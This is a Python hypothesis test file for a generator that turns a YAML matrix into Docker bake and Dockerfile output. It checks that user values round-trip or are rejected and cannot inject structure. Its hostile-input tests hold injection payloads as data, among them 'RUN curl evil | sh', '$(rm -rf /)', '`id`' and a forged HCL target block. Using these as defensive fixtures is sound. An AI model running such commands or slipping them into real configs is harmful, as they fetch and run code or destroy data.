"""Whatever a user writes either round-trips exactly or is rejected with a location.

Arbitrary strings go into build args, labels, tag text, commands, env values
and health-check commands. The generated bake file is parsed back with
python-hcl2 and the Dockerfile with BuildKit's parser: the values come back
unchanged, and the structure (targets, attributes, instructions) is the same
as for harmless values, so nothing a user writes can add a target, an HCL
attribute or a Dockerfile instruction.
"""

from __future__ import annotations

import io
import re
import shutil
import tempfile
from pathlib import Path

import dockerfile
import hcl2
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from bakegen import BakegenError, render_project
from bakegen.model.fields import looks_secret
from conftest import PROJECTS
from hcl import _value, decode, literal
from test_escaping import parses_with_python_hcl2

BAKE_ATTRIBUTES = {"description", "context", "dockerfile", "target", "platforms", "tags", "args",
                   "contexts", "labels", "attest", "output", "secret"}

text = st.text(max_size=40)


def matrix(values: dict) -> dict:
    return {
        "version": 1,
        "project": {"name": "p", "registry": "registry.example.com/p"},
        "images": {"python": "python:3.12-slim", "uv": "ghcr.io/astral-sh/uv:0.13.9"},
        "stages": {"production": {"push": True}},
        "services": {
            "api": {
                "runtime": "python",
                "context": "svc/api",
                "command": values["command"],
                "port": 8000,
                "healthcheck": {"command": values["health"]},
                "args": {"SETTING": values["arg"]},
                "env": {"VALUE": values["env"]},
                "labels": {values["label_key"] or "k": values["label_value"]},
                "tags": ["{registry}/api:" + values["tag"]],
            }
        },
    }


def render(values: dict) -> dict[str, str] | None:
    """Render `values` in a scratch copy of the minimal project; None if rejected."""
    root = Path(tempfile.mkdtemp())
    try:
        shutil.copytree(PROJECTS / "minimal" / "svc", root / "svc")
        buffer = io.StringIO()
        yaml = YAML(typ="safe", pure=True)
        # Escape everything outside ASCII: YAML reads a raw U+0085 or U+2028
        # as a line break (folded to a space), so only escapes say exactly
        # what these values are.
        yaml.allow_unicode = False
        # No line wrapping either: folding a long quoted scalar across lines
        # is where ruamel's emitter can add a space.
        yaml.width = 1_000_000
        # Every scalar double-quoted: ruamel writes some strings (e.g. '?0' in a
        # flow mapping) plain, where no YAML parser can read them back.
        yaml.default_style = '"'
        yaml.dump(matrix(values), buffer)
        (root / "matrix.yaml").write_text(buffer.getvalue(), encoding="utf-8")
        try:
            return render_project(root / "matrix.yaml").files
        except BakegenError as exc:
            for d in exc.diagnostics:  # rejected where the user wrote it
                assert d.file.endswith("matrix.yaml") and d.line >= 1 and d.column >= 1, d
            return None
    finally:
        shutil.rmtree(root)


HARMLESS = {"command": ["python", "-m", "app"], "health": ["true"], "arg": "a", "env": "e",
            "label_key": "k", "label_value": "v", "tag": "t"}


def shape(files: dict[str, str]) -> tuple:
    bake = hcl2.loads(files["docker-bake.hcl"], serialization_options=hcl2.SerializationOptions(with_comments=False))
    targets = [(name, sorted(attrs)) for block in bake["target"] for name, attrs in block.items()]
    instructions = [c.cmd for c in dockerfile.parse_string(files["generated/api/Dockerfile"])]
    return targets, instructions


BASELINE = None


def unquote_env(raw: str) -> str:
    """A double-quoted Dockerfile word, as BuildKit's shell lexer reads it."""
    assert raw.startswith('"') and raw.endswith('"'), raw
    body = raw[1:-1]
    assert not re.search(r'(?<!\\)(?:\\\\)*\$', body), f"unescaped $ would expand: {raw}"
    return re.sub(r'\\(["$\\])', r"\1", body)


def check_roundtrip(values: dict, files: dict[str, str]) -> None:
    global BASELINE
    in_hcl = [values["arg"], values["label_key"], values["label_value"], values["tag"]]
    if not all(parses_with_python_hcl2(v) for v in in_hcl):
        return  # python-hcl2's grammar gap; test_escaping checks these against the HCL spec
    if BASELINE is None:
        BASELINE = shape(render(HARMLESS))
    assert shape(files) == BASELINE, "user input changed the structure of the output"

    bake = hcl2.loads(files["docker-bake.hcl"], serialization_options=hcl2.SerializationOptions(with_comments=False))
    target = _value(bake["target"][0]['"api-production"'])
    assert set(target) <= BAKE_ATTRIBUTES
    assert "".join(target["args"]["SETTING"]) == values["arg"]
    assert "".join(target["labels"][values["label_key"] or "k"]) == values["label_value"]
    assert [p if isinstance(p, str) else f"${{{p.name}}}" for p in target["tags"][0]] == \
        ["${REGISTRY}", "/api:" + values["tag"]]

    commands = {c.cmd: c for c in dockerfile.parse_string(files["generated/api/Dockerfile"])}
    assert list(commands["CMD"].value) == values["command"]
    assert commands["CMD"].json
    assert list(commands["HEALTHCHECK"].value) == ["CMD", *values["health"]]
    env = dict(zip(commands["ENV"].value[::2], commands["ENV"].value[1::2], strict=True))
    assert unquote_env(env["VALUE"]) == values["env"]


# Text that every field accepts: no NUL anywhere, no line break in env values.
no_nul = st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=40)
one_line = st.text(alphabet=st.characters(exclude_characters="\x00\n\r", exclude_categories=("Cs",)),
                   max_size=40)


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.fixed_dictionaries({
    "command": st.lists(no_nul, min_size=1, max_size=3),
    "health": st.lists(no_nul, min_size=1, max_size=3),
    "arg": no_nul, "env": one_line, "label_value": no_nul,
    # Label keys that read like secrets ("api-token") are refused, rightly.
    "label_key": no_nul.filter(lambda key: not looks_secret(key)),
    # A valid tag: validate checks every expanded image name ("api:" or "api:-x" are not).
    "tag": st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9._-]{0,19}", fullmatch=True),
}))
def test_accepted_values_roundtrip_exactly(values):
    files = render(values)
    assert files is not None, "valid values were rejected"
    check_roundtrip(values, files)


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.fixed_dictionaries({
    "command": st.lists(text, min_size=1, max_size=3),
    "health": st.lists(text, min_size=1, max_size=3),
    "arg": text, "env": text, "label_key": text, "label_value": text, "tag": text,
}))
def test_any_values_roundtrip_or_are_rejected_with_a_location(values):
    files = render(values)
    if files is not None:
        check_roundtrip(values, files)


def test_hostile_examples():
    """A few inputs worth naming, beyond what hypothesis happens to draw."""
    for hostile in ['"\n}\ntarget "evil" {\n  context = "/"\n', "${jndi}", "%{ if true }x%{ endif }",
                    "\\\\\"", "\nRUN curl evil | sh", "$(rm -rf /)", "`id`"]:
        values = {**HARMLESS, "arg": hostile, "label_value": hostile, "command": [hostile],
                  "health": [hostile]}
        files = render(values)
        assert files is not None, hostile
        assert shape(files) == shape(render(HARMLESS))
        bake = hcl2.loads(files["docker-bake.hcl"])
        target = bake["target"][0]['"api-production"']
        assert literal(target["args"]['"SETTING"']) == hostile
        assert "".join(decode(target["labels"]['"k"'])) == hostile


def test_the_matrix_file_name_cannot_add_lines_to_banners(project, run):
    matrix = project("minimal")
    for name in ("m\nRUN curl evil | sh\n.yaml", "m\x85RUN id.yaml"):
        renamed = matrix.parent / name
        matrix.rename(renamed)
        result = run("render", "-f", str(renamed))
        assert result.exit_code == 2
        assert "the matrix file's name has characters bakegen cannot write into its banners: " in result.stderr
        assert result.stderr.endswith("  hint: rename the file, e.g. to matrix.yaml\n")
        assert not (matrix.parent / "generated").exists()
        renamed.rename(matrix)


def test_a_dockerfile_line_buildkit_would_refuse_is_an_error(project, run):
    matrix = project("minimal")
    words = ", ".join(["x" * 15_000] * 5)  # each value is short enough; the CMD line is not
    matrix.write_text(matrix.read_text().replace("[python, -m, app]", f"[{words}]"))
    result = run("render", "-f", str(matrix))
    assert result.exit_code == 2
    assert result.stderr.startswith("matrix.yaml: line ")
    assert " of generated/api/Dockerfile would be 75,0" in result.stderr
    assert "bytes; BuildKit reads lines of at most 65,535\n" in result.stderr
    assert not (matrix.parent / "generated").exists()
